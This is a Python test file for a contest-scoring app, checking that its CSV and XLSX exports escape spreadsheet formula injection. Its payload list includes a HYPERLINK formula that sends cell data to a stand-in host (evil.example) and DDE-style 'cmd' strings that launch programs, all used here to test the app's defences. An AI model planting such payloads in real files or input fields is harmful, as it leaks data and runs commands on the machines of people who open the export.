"""No text typed by a person runs as a formula in a file the app writes (SPEC §8, issue 12).

The demo contest is filled with formula payloads in every text field a person types:
organisations' names and communities, titles, answers, jurors' names and e-mails,
comments, overall comments, declarations, decision reasons. Every CSV and XLSX the
app writes (``ranking.csv``, ``scores.csv``, ``ranking.xlsx``, ``export-scores``,
``rank --format csv``) is read back with the csv module or openpyxl: no cell is a
formula or text a spreadsheet would run as one, the payloads are there as text, and
the numbers are numbers.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select

from scoring import spreadsheets
from scoring.extensions import db
from scoring.models import (
    Answer,
    Application,
    Contest,
    Score,
    Scoresheet,
    SheetState,
    Stage,
    User,
)

from ._shown import excel_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Відкрити")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "'=1+1",  # an apostrophe already in front
    "=1+1\n=2+2",
]
# An independent statement of the rule: what a spreadsheet would run as a formula.
RISKY = re.compile("[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def risky(text: str) -> bool:
    return bool(RISKY.match(text)) and not NUMBER.fullmatch(text)


def escaped(payload: str) -> str:
    """The payload as the files show it: after an apostrophe."""
    return "'" + payload


def assert_no_formula(rows, where: str) -> list[str]:
    """Every text cell of ``rows`` is safe; the cells as one list of text."""
    cells = []
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not risky(cell), f"{where}: {cell!r} runs as a formula"
                cells.append(cell)
    return cells


@pytest.fixture
def poisoned(app, runner):
    """The demo's judged contest with a formula in every text field people type; its slug."""
    assert runner.invoke(args=["demo"]).exit_code == 0
    with app.app_context():
        contest = db.session.scalar(select(Contest).where(Contest.stage == Stage.JUDGING))
        applications = db.session.scalars(
            select(Application).where(Application.contest_id == contest.id)
        ).all()
        for i, application in enumerate(applications):
            payload = PAYLOADS[i % len(PAYLOADS)]
            application.organisation.name = payload
            application.organisation.community = payload
            application.applicant_name = payload  # the facts frozen at submission
            application.applicant_community = payload
            application.title = payload
            application.decision_reason = payload
        for answer in db.session.scalars(select(Answer)):
            answer.value = PAYLOADS[0]
        sheets = db.session.scalars(
            select(Scoresheet).join(Application).where(Application.contest_id == contest.id)
        ).all()
        jurors = sorted({sheet.juror_id for sheet in sheets})
        for i, juror_id in enumerate(jurors):
            db.session.get(User, juror_id).name = PAYLOADS[i]
        db.session.get(User, jurors[0]).email = "-2+3@jury.example"
        for sheet in sheets:
            sheet.overall_comment = PAYLOADS[1] if sheet.state == SheetState.SUBMITTED else ""
            if sheet.declaration:
                sheet.declaration = PAYLOADS[2]
        for i, score in enumerate(
            db.session.scalars(select(Score).where(Score.scoresheet_id.in_([s.id for s in sheets])))
        ):
            score.comment = PAYLOADS[i % len(PAYLOADS)]
        db.session.commit()
        return contest.slug


@pytest.fixture
def organiser(client, poisoned):
    """The demo's organiser signed in, the interface in English; the contest's slug."""
    client.login("organiser@demo.example", "demo-pass-2026")
    client.submit("/language", {"language": "en", "next": "/"})
    return poisoned


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_ranking_csv_shows_formulas_as_text_and_numbers_as_numbers(client, organiser):
    rows = _csv(client.get(f"/manage/contests/{organiser}/ranking.csv").data)
    header = rows[0]
    cells = assert_no_formula(rows, "ranking.csv")
    assert escaped(PAYLOADS[0]) in header and escaped(PAYLOADS[1]) in header  # jurors
    assert {escaped(p) for p in PAYLOADS} <= set(cells)  # the applicants
    for row in rows[1:]:
        line = dict(zip(header, row, strict=True))
        if line["Place"]:
            assert int(line["Place"]) >= 1 and float(line["Score"]) > 0


def test_the_scores_csv_shows_comments_and_e_mails_as_text(client, organiser):
    rows = _csv(client.get(f"/manage/contests/{organiser}/scores.csv").data)
    cells = assert_no_formula(rows, "scores.csv")
    assert {escaped(p) for p in PAYLOADS} <= set(cells)
    assert escaped("-2+3@jury.example") in cells
    scores = [row[3] for row in rows[1:] if row[3] and row[3] != "recused"]
    assert scores and all(float(score) >= 0 for score in scores)


def test_the_workbook_has_no_formula_and_keeps_numbers_numeric(client, organiser):
    data = client.get(f"/manage/contests/{organiser}/ranking.xlsx").data
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        assert_no_formula(sheet.iter_rows(values_only=True), sheet.title)
    ranking = list(workbook["Ranking"].iter_rows())
    header = [c.value for c in ranking[0]]
    assert escaped(PAYLOADS[0]) in header
    first = {name: cell for name, cell in zip(header, ranking[1], strict=True)}
    assert first["Score"].data_type == "n" and isinstance(first["Score"].value, int | float)
    assert first["Place"].data_type == "n" and first["Place"].value == 1
    assert first["Applicant"].data_type == "s" and first["Applicant"].value.startswith("'")
    scores = list(workbook["Scores"].iter_rows())
    comments = {excel_text(row[4].value) for row in scores[1:]}
    assert {escaped(p) for p in PAYLOADS} <= comments
    points = [row[3] for row in scores[1:] if row[3].value not in (None, "recused")]
    assert points and all(cell.data_type == "n" for cell in points)


def test_a_control_character_in_a_comment_does_not_break_the_workbook(app, client, organiser):
    with app.app_context():
        score = db.session.scalar(select(Score).where(Score.comment != "").limit(1))
        score.comment = "Бюджет\x07 завищено\x1b"  # (PostgreSQL refuses NUL itself)
        db.session.commit()
    response = client.get(f"/manage/contests/{organiser}/ranking.xlsx")
    assert response.status_code == 200
    comments = [r[4] for r in load_workbook(io.BytesIO(response.data))["Scores"].values]
    assert "Бюджет\ufffd завищено\ufffd" in comments  # shown, not silently dropped


def test_export_scores_escapes_and_an_import_of_it_restores_the_text(
    app, runner, tmp_path, poisoned
):
    with app.app_context():
        contest_id = db.session.scalar(select(Contest.id).where(Contest.slug == poisoned))
        before = sorted(
            db.session.execute(
                select(Application.number, User.email, Score.criterion_id, Score.comment)
                .join(Scoresheet, Score.scoresheet_id == Scoresheet.id)
                .join(Application, Scoresheet.application_id == Application.id)
                .join(User, Scoresheet.juror_id == User.id)
                .where(Scoresheet.state == SheetState.SUBMITTED)
            ).all()
        )
    exported = runner.invoke(args=["export-scores", poisoned])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO(exported.output, newline="")))
    cells = assert_no_formula(rows, "export-scores")
    assert {escaped(p) for p in PAYLOADS} <= set(cells)

    with app.app_context():  # the sheets go; the file brings them back
        submitted = (
            select(Scoresheet.id)
            .join(Application)
            .where(Application.contest_id == contest_id, Scoresheet.state == SheetState.SUBMITTED)
        )
        db.session.execute(delete(Score).where(Score.scoresheet_id.in_(submitted)))
        db.session.execute(delete(Scoresheet).where(Scoresheet.id.in_(submitted.scalar_subquery())))
        db.session.commit()
    path = tmp_path / "scores.csv"
    path.write_text(exported.output, encoding="utf-8")
    imported = runner.invoke(args=["import-scores", poisoned, str(path)])
    assert imported.exit_code == 0, imported.output
    with app.app_context():
        after = sorted(
            db.session.execute(
                select(Application.number, User.email, Score.criterion_id, Score.comment)
                .join(Scoresheet, Score.scoresheet_id == Scoresheet.id)
                .join(Application, Scoresheet.application_id == Application.id)
                .join(User, Scoresheet.juror_id == User.id)
                .where(Scoresheet.state == SheetState.SUBMITTED)
            ).all()
        )
        overall = set(db.session.scalars(select(Scoresheet.overall_comment)))
    # «=…» comes back as «=…», not as «'=…» (the import trims spaces, tabs and line ends)
    assert after == [(*key, comment.strip()) for *key, comment in before]
    assert PAYLOADS[1] in overall


def test_rank_as_csv_shows_formulas_as_text(runner, poisoned):
    result = runner.invoke(args=["rank", poisoned, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output, newline="")))
    cells = assert_no_formula(rows, "rank --format csv")
    assert {escaped(p) for p in PAYLOADS} <= set(cells)
    header = rows[0]
    scores = [float(dict(zip(header, row, strict=True))["score"]) for row in rows[1:]]
    assert scores == sorted(scores, reverse=True) and scores[0] > 0


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("-5.41", "-5.41"),  # a number stays readable as one
        ("+5", "+5"),
        ("-5,41", "-5,41"),
        ("-", "'-"),
        ("-5.41 грн", "'-5.41 грн"),
        ("'=1", "''=1"),
        ("'text", "'text"),
        ("Звичайний текст", "Звичайний текст"),
        ("", ""),
    ],
)
def test_one_rule_for_every_cell(text, shown):
    """What every file writes for a text, and that reading it back (as ``import-scores``
    does) gives the text again."""
    assert spreadsheets.cell(text) == shown
    assert spreadsheets.plain(shown) == text
    assert spreadsheets.cell(-5.41) == -5.41
